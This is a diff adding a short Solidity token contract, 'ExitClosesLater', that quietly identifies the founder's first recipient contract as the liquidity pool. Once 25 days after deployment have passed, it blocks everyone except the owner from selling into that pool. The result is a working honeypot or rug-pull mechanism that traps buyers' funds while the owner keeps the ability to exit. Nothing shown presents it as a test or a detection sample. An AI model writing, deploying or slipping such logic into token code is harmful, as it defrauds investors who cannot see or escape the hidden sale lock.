@@ -1,0 +1,26 @@
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.20;
+
+import {Token} from "./Token.sol";
+
+/// Sales work for a month after the launch, less some days, and then never again.
+contract ExitClosesLater is Token {
+    /// The first contract that the founder sends to is the pool.
+    address internal pool;
+
+    function _isPool(address account) internal view returns (bool) {
+        return account == pool;
+    }
+
+    function _learnPool(address from, address to) internal {
+        if (pool == address(0) && from == owner && to.code.length > 0) pool = to;
+    }
+
+    uint256 private immutable born = block.timestamp;
+
+    function _transfer(address from, address to, uint256 value) internal virtual override {
+        _learnPool(from, to);
+        require(!_isPool(to) || from == owner || block.timestamp < born + 25 days, "closed");
+        super._transfer(from, to, value);
+    }
+}
